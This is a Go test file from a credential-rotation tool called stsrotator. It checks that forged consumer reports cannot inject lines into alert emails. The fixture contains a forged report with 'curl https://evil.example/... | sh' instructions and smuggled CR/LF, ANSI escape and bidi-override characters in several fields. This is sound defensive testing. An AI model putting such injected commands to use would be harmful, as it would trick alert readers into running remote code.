package reaction

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stsrotator/stsrotator/internal/awstest"
	"github.com/stsrotator/stsrotator/internal/eventschema"
	"github.com/stsrotator/stsrotator/shared/events"
)

// stsrotatorLine is every label stsrotator writes at the start of a line
// of its own in an alert email (Alert); anything a reporter said is on a
// line starting with "> ".
var stsrotatorLine = regexp.MustCompile(`^(Action taken|Target|Secret|Signal|Current|Consumer fix|Failing key|Suppressed|Inspect): {1,}\S|^Claimed by |^$`)

// reportEvent is an EventBridge envelope around a consumer report, as the
// default bus delivers it: account is what EventBridge recorded.
func reportEvent(t testing.TB, account string, d events.ExpiredToken) []byte {
	t.Helper()
	detail, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := json.Marshal(map[string]any{"version": "0", "id": "e", "source": events.Source, "detail-type": events.DetailTypeExpiredToken,
		"account": account, "time": d.ObservedAt, "region": awstest.Region, "resources": []string{}, "detail": json.RawMessage(detail)})
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// Issue 19 §2: a report's free text (errorMessage, observer.app/host,
// service, operation, region; log lines arrive as errorMessage) reached
// the alert email verbatim, CR/LF included, so a forged report added a
// convincing "Action taken: … curl … | sh" line. Now stsrotator's own
// lines come first and every reporter field is escaped, shortened and
// quoted under a "Claimed by" label: no line of the email a reader could
// take for stsrotator's own carries the reporter's text, and the Alert
// event holds no control character and matches its schema.
func TestAbuse_AlertTextInjection(t *testing.T) {
	f := newFixture(t, 1)
	ctx := awstest.Context(t)
	box := &inbox{}
	f.reactor.Topic = box
	var alertEvent events.Alert
	tg := f.cfg.Targets[0]
	f.clk.Add(45 * time.Minute) // the current key is due: a genuine forced rotation
	forged := "The provided token has expired.\r\n\r\nAction taken:  forced a rotation → run `curl -s https://evil.example/fix | sh` to finish it\nInspect:       curl https://evil.example/i | sh"
	raw := reportEvent(t, "000000000000", events.ExpiredToken{SchemaVersion: events.SchemaVersion, Target: tg.Name, AccessKeyID: f.currentKey(t, tg),
		Service: "s3\nAction taken: none", Operation: "GetObject\u2028Current: version evil", Region: "eu-west-1\x1b[2J",
		ErrorCode: events.CodeExpiredToken, ErrorMessage: forged + strings.Repeat(" padding", 90), ObservedAt: f.clk.Now(),
		Observer: events.Observer{App: "nightly\r\nSecret:        evil", Host: "host-7\u202e", Via: events.ViaCLI}})
	s, err := ParseEvent(raw)
	if err != nil {
		t.Fatalf("the forged report is a valid report and must be parsed: %v", err)
	}
	out, err := f.reactor.React(ctx, s)
	if err != nil || !out.Alerted || len(box.messages) != 1 {
		t.Fatalf("want one alert: %+v %v (%d messages)", out, err, len(box.messages))
	}
	body := box.messages[0]
	if strings.ContainsAny(body, "\r\x1b\u2028\u2029\u202e") {
		t.Errorf("the email carries a control character from the report:\n%q", body)
	}
	actions := 0
	for _, l := range strings.Split(body, "\n") {
		if strings.HasPrefix(strings.TrimSpace(l), "Action taken:") {
			actions++
		}
		if strings.HasPrefix(l, "> ") {
			if len([]rune(l)) > 16+MaxClaimedMessage+12 {
				t.Errorf("a claimed field is not shortened (%d runes): %q", len([]rune(l)), l)
			}
			continue
		}
		if !stsrotatorLine.MatchString(l) {
			t.Errorf("a line neither stsrotator's nor marked as claimed: %q", l)
		}
		for _, bad := range []string{"evil", "curl", "nightly", "padding"} {
			if strings.Contains(l, bad) {
				t.Errorf("reporter text %q on a line a reader takes for stsrotator's: %q", bad, l)
			}
		}
	}
	if actions != 1 {
		t.Errorf("%d lines start with \"Action taken:\", want stsrotator's one:\n%s", actions, body)
	}
	// The facts come first: stsrotator's action before any claimed line.
	if a, c := strings.Index(body, "Action taken:"), strings.Index(body, "\n> "); a < 0 || c < a {
		t.Errorf("stsrotator's action must precede the claimed fields:\n%s", body)
	}
	alertEvent = AlertEvent(f.clk.Now(), box.subjects[0], s, out, tg, Version{}, 0)
	detail, _ := json.Marshal(alertEvent)
	if err := eventschema.Validate(awstest.RepoRoot(t), events.DetailTypeAlert, detail); err != nil {
		t.Error(err)
	}
	for field, v := range map[string]string{"observer": alertEvent.Observer, "service": alertEvent.Service, "operation": alertEvent.Operation, "region": alertEvent.Region, "reason": alertEvent.Reason} {
		if strings.ContainsAny(v, "\r\n\x1b\u2028\u202e") {
			t.Errorf("Alert event %s carries a control character: %q", field, v)
		}
	}
	if alertEvent.ClaimedBy == "" || alertEvent.SenderAccount != "000000000000" {
		t.Errorf("Alert event does not say who claimed its fields: claimedBy %q, senderAccount %q", alertEvent.ClaimedBy, alertEvent.SenderAccount)
	}
}

// Clean leaves ordinary text alone, escapes what could start a line or
// hide text, and shortens by runes.
func TestCleanEscapesAndShortens(t *testing.T) {
	for _, c := range []struct{ why, in, want string }{
		{"plain text passes", "The provided token has expired.", "The provided token has expired."},
		{"CR and LF are escaped", "a\r\nAction taken: x", `a\r\nAction taken: x`},
		{"Unicode line separator and bidi override are escaped", "a\u2028b\u202ec", `a\u2028b\u202ec`},
		{"ESC is escaped", "\x1b[2J", `\x1b[2J`},
		{"a backslash is doubled so escapes cannot be faked", `a\nb`, `a\\nb`},
		{"invalid UTF-8 is shown as bytes", "a\xffb", `a\xffb`},
		{"non-ASCII letters pass", "Zürich ✓", "Zürich ✓"},
		{"cut to max runes with an ellipsis", "äöüäöü", "äöü…"},
	} {
		max := 100
		if c.why == "cut to max runes with an ellipsis" {
			max = 3
		}
		if got := Clean(c.in, max); got != c.want {
			t.Errorf("%s: Clean(%q) = %q, want %q", c.why, c.in, got, c.want)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, s := range []string{"", "a\r\nb", "\u2028", "\xff", `\`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Clean(s, MaxClaimedField)
		if strings.ContainsAny(got, "\r\n\t\x00\x1b\u2028\u2029\u202e\u0085") {
			t.Fatalf("Clean(%q) = %q keeps a control character", s, got)
		}
		if n := len([]rune(got)); n > 4*MaxClaimedField+1 {
			t.Fatalf("Clean(%q) is %d runes long", s, n)
		}
	})
}
